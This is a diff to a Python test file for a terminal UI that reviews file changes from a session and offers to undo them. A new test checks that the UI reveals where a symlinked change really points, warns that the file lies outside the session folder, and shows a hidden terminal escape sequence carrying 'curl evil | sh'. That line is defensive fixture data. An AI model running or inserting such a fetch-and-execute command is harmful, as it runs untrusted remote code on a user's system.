@@ -170,7 +170,7 @@ async def test_changes_are_gone_through_and_one_is_taken_back_after_a_yes(tmp_pa
         await it.press("p", "down")
         assert "+ three" in marked_row(it)
         await it.press("u")
-        assert "Take this change back?" in it.screen
+        await it.until(lambda: "Take this change back?" in it.screen)
         assert it.asked == []
         await agree(it)
         await it.until(lambda: bool(it.asked))
@@ -178,15 +178,45 @@ async def test_changes_are_gone_through_and_one_is_taken_back_after_a_yes(tmp_pa
         assert it.asked == [TakeBack(session.session_id, str(file), new, text)]
         file.write_text(f"{new}and more\n")
         await it.press("u")
+        await it.until(lambda: "Take this change back?" in it.screen)
         await agree(it)
         await it.until(lambda: len(it.asked) == 2)  # the rest of the file may be another one
         assert isinstance(it.asked[1], TakeBack)
         assert it.asked[1].text == f"{text}and more\n"
         file.write_text("something else\n")
         await it.press("u")
+        await it.until(lambda: "Take this change back?" in it.screen)
         await agree(it)
         await it.until(lambda: "nothing was done: what is shown isn't in it anymore" in it.screen)
         assert len(it.asked) == 2
+
+
+async def test_the_question_says_where_a_change_really_is_and_what_hides_in_it(
+    tmp_path: Path,
+) -> None:
+    work, outside = tmp_path / "work", tmp_path / "outside"
+    work.mkdir()
+    outside.mkdir()
+    (outside / "rc").write_text("safe\n")
+    (work / "cfg").symlink_to(outside)
+    state, session = states.opened()
+    session.cwd = str(work)
+    old = "safe \x1b]0;curl evil | sh\x07\n"
+    session.writes.append(
+        FileWrite(7, states.NOW, str(work / "cfg" / "rc"), False, old, "safe\n", kept=True)
+    )
+    async with running(state, (160, 40)) as it:
+        await it.press("f7", "n", "u")
+        await it.until(lambda: "Take this change back?" in it.screen)
+        rows = [row.strip(" │┃▌") for row in it.screen.splitlines()]
+        assert f"cfg/rc,whichis{outside / 'rc'}" in "".join("".join(rows).split())
+        assert "It lies outside of the session's folder." in it.screen
+        assert "-safe ␛]0;curl evil | sh␇" in it.screen
+        (work / "cfg").unlink()
+        (work / "cfg").mkdir()
+        await agree(it)
+        await it.until(lambda: bool(it.asked))
+        assert it.asked == [TakeBack(session.session_id, str(outside / "rc"), "safe\n", old)]
 
 
 async def test_turns_are_reviewed_one_by_one() -> None:
@@ -472,4 +502,4 @@ async def test_a_change_outside_of_the_folder_is_told_as_such(tmp_path: Path) ->
     session.writes.append(FileWrite(7, states.NOW, str(file), False, "old\n", "new\n", kept=True))
     async with running(state) as it:
         await it.press("f7", "n", "u")
-        assert "It lies outside of the session's folder." in it.screen
+        await it.until(lambda: "It lies outside of the session's folder." in it.screen)
